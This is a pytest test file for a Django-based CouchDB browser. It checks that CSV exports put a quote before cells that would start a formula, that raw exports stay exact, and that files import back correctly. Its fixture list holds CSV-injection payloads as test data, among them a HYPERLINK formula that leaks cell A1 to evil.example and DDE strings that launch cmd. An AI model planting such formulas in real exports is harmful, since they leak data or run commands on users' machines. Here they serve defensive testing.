"""A CSV export for spreadsheets cannot inject a formula (OWASP "CSV Injection": a text cell starting with
= + - @, tab or CR gets a leading '), and raw values stay an explicit choice, exact and importable again."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from browser.couch import jsontext
from browser.couch.transfer_export import FORMULA_STARTS, ExportChoice, export_chunks
from tests.conftest import TEAM, all_docs, log_in
from tests.support.data import HOSTILE

FORMULAS = ["=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1,1)", "\t=1+1", "\r=1+1", "=cmd|' /C notepad'!'A1'", "-leading-dash", "+", "@", "-"]
HARMLESS = ["plain", " =leading space", "'already quoted", "a=b", "ünï", "line\nbreak"]
# Values of other types, in a column of their own, "w:mixed": a number (negative too) stays a number, true/false,
# JSON text of lists, objects and texts.
TYPED = [-5, -0.5, jsontext.JsonNumber("-1234.5e2"), 0, True, False, ["=1"], {"=k": "=v"}]
TEXTS = FORMULAS + HARMLESS + [v for v in HOSTILE["field_values"] if isinstance(v, str)] + HOSTILE["document_ids"]


@pytest.fixture
def formulas_db(make_database, couch_server):
    db = make_database(security=TEAM)
    docs = [{"_id": f"t{i:03}", "v": text} for i, text in enumerate(TEXTS)]
    docs += [{"_id": f"n{i:03}", "w": value} for i, value in enumerate(TYPED + ["=1+1"])]
    docs += [{"_id": "-leading-dash", "v": "id"}, {"_id": "@id", "v": "id"}]
    answer = couch_server.admin_http().post(f"{couch_server.url}{db}/_bulk_docs", timeout=30,
                                            data=jsontext.dumps({"docs": docs}).encode(),
                                            headers={"Content-Type": "application/json"})
    answer.raise_for_status()
    return db, docs


@pytest.fixture
def member_client(client, personas):
    return log_in(client, personas["member"])


def texts(docs):
    return [doc for doc in docs if doc["_id"].startswith("t")]


def export(client, db, **params):
    response = client.get(reverse("browser:export", kwargs={"db": db}), {"format": "csv", "fields": "_id,v", **params})
    assert response.status_code == 200 and response.streaming
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


def test_the_spreadsheet_cells_are_the_default_and_start_no_formula(member_client, formulas_db):
    db, docs = formulas_db
    rows = export(member_client, db)
    assert rows[0] == ["_id", "v"]
    cells = {docid: value for docid, value in rows[1:]}
    # Only numbers may start with "-": a spreadsheet reads them as numbers, never as formulas.
    assert not [c for row in rows for c in row if c.startswith(FORMULA_STARTS) and not row[0].startswith("n")]
    for doc in texts(docs):
        text = doc["v"]
        assert cells[doc["_id"]] == ("'" + text if text.startswith(FORMULA_STARTS) else text)
    # ids are cells too
    assert ["'-leading-dash", "id"] in rows and ["'@id", "id"] in rows


def test_numbers_and_other_types_are_written_as_in_raw(member_client, formulas_db):
    db, docs = formulas_db
    spreadsheet, raw = export(member_client, db, fields="_id,w"), export(member_client, db, fields="_id,w",
                                                                          csv_values="raw")
    assert spreadsheet[0] == raw[0] == ["_id", "w:mixed"]
    typed = {row[0]: row[1] for row in spreadsheet if row[0].startswith("n")}
    assert typed == {row[0]: row[1] for row in raw if row[0].startswith("n")}
    assert typed["n000"] == "-5" and typed["n002"].startswith("-1234") and typed["n006"] == '["=1"]'
    # In a mixed column a text is JSON, in quotes: no spreadsheet reads it as a formula, and it imports exactly.
    assert typed["n008"] == '"=1+1"'


def test_raw_values_are_exact(member_client, formulas_db):
    db, docs = formulas_db
    cells = {docid: value for docid, value in export(member_client, db, csv_values="raw")[1:]}
    for doc in texts(docs):
        assert cells[doc["_id"]] == doc["v"]


def test_the_header_row_is_neutralised_too():
    chunks = export_chunks(_NoCouch(), "x", ExportChoice(format="csv", fields=(("=a",), ("b",)), selector=None))
    assert next(iter(chunks)).startswith("_id,'=a,b")


class _NoCouch:
    def request(self, *args, **kwargs):
        return _Empty()


class _Empty:
    def iter_content(self, size):
        yield b'{"rows": []}'

    def close(self):
        pass


def test_the_export_page_offers_raw_values_as_an_explicit_choice(member_client, formulas_db):
    page = member_client.get(reverse("browser:export", kwargs={"db": formulas_db[0]})).content.decode()
    assert "Raw values (for programs, not spreadsheets): imports again exactly" in page
    assert 'name="csv_values" value="spreadsheet"' in page and 'value="raw"' in page
    bad = member_client.get(reverse("browser:export", kwargs={"db": formulas_db[0]}),
                            {"format": "csv", "fields": "v", "csv_values": "formulas"})
    assert bad.status_code == 400


def test_a_raw_export_imports_again_exactly_and_a_neutralised_one_keeps_the_quote(member_client, formulas_db,
                                                                                  make_database, couch_server):
    db, docs = formulas_db
    for mode, expect_quote in (("raw", False), ("spreadsheet", True)):
        rows = export(member_client, db, csv_values=mode, fields="_id,v")
        out = io.StringIO()
        chosen = [r for r in rows[1:] if r[0].startswith("t")]
        csv.writer(out, lineterminator="\r\n").writerows([["_id", "v"], *chosen])
        target = make_database(security=TEAM)
        upload = SimpleUploadedFile("cells.csv", out.getvalue().encode(), content_type="text/csv")
        response = member_client.post(reverse("browser:import", kwargs={"db": target}), {"file": upload, "kind": "csv"})
        b"".join(response.streaming_content)
        stored = all_docs(couch_server, target, at_least=len(chosen))
        values = {r["doc"]["_id"].lstrip("'"): r["doc"].get("v", "") for r in stored}
        for doc in texts(docs):
            text = doc["v"]
            quoted = expect_quote and text.startswith(FORMULA_STARTS)
            assert values[doc["_id"]] == ("'" + text if quoted else text), (mode, text)
